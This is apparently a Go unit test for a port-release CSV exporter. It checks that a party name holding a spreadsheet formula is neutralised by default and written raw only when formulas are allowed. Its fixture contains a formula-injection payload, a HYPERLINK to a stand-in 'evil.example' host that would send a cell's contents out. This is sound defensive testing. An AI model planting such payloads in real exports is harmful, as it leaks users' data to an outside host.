package mappings_test

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/nexport/pcsgate/canonical"
	"github.com/nexport/pcsgate/mappings"
)

// formulaEvent is a release to a party whose name a spreadsheet would run.
const formulaEvent = `[{"id":"ev_p4osdql5jmkpg65xaef5u5bxlj","type":"RELEASE_CREATED","occurredAt":"2026-11-20T07:14:00Z",
"source":{"pcs":"portbase","profile":"portbase/coreor","messageRef":"M1001"},
"key":{"port":"NLRTM","carrier":"MAEU","blNumber":"MAEU258114377","containerNumber":"MSKU1234565"},
"release":{"releaseNumber":"-12.5","releaseTo":{"name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"}}}]`

func TestStatusCSVNeutralisesFormulas(t *testing.T) {
	var events []*canonical.ReleaseEvent
	require.NoError(t, json.Unmarshal([]byte(formulaEvent), &events))
	p, err := defaultRegistry(t).Profile("partner/status-csv")
	require.NoError(t, err)
	encode := func(opts mappings.EncodeOptions) string {
		var out bytes.Buffer
		enc, err := p.NewEncoder(&out, opts)
		require.NoError(t, err)
		require.NoError(t, enc.Encode(events))
		require.NoError(t, enc.Close())
		lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
		require.Len(t, lines, 2)
		return lines[1]
	}

	row := encode(mappings.EncodeOptions{Now: encodeNow})
	assert.Contains(t, row, `;"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")";`, "a party name is neutralised by default")
	assert.Contains(t, row, ";-12.5;", "a plain number is left alone")

	row = encode(mappings.EncodeOptions{Now: encodeNow, AllowFormulas: true})
	assert.Contains(t, row, `;"=HYPERLINK(""http://evil.example/?""&A1,""Click"")";`, "AllowFormulas writes it as it is")
}
